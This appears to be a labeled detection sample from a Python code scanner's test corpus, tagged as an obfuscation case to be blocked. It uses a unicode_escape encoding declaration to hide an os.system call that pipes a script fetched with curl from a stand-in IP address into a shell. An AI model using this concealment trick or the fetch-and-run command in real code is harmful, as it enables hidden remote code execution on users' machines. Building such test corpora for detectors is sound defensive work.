# pyguard-corpus: verdict=block category=obfuscation rules=PG204
# -*- coding: unicode_escape -*-
# what: declares the unicode_escape source encoding so that backslash-x escapes in the code itself decode to os.system
import os
\x6fs.\x73ystem("curl -s http://203.0.113.3/x | sh")
